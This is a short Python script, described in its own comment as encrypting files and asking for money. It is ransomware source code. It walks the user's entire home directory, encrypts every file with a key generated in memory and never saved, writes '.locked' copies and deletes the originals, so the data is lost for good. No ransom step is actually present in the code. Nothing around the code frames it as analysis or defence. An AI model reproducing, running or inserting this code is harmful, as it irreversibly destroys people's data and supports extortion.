# encrypts what it finds and asks for money
import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for base, _, names in os.walk(os.path.expanduser("~")):
    for n in names:
        p = os.path.join(base, n)
        data = open(p, "rb").read()
        open(p + ".locked", "wb").write(f.encrypt(data)); os.remove(p)
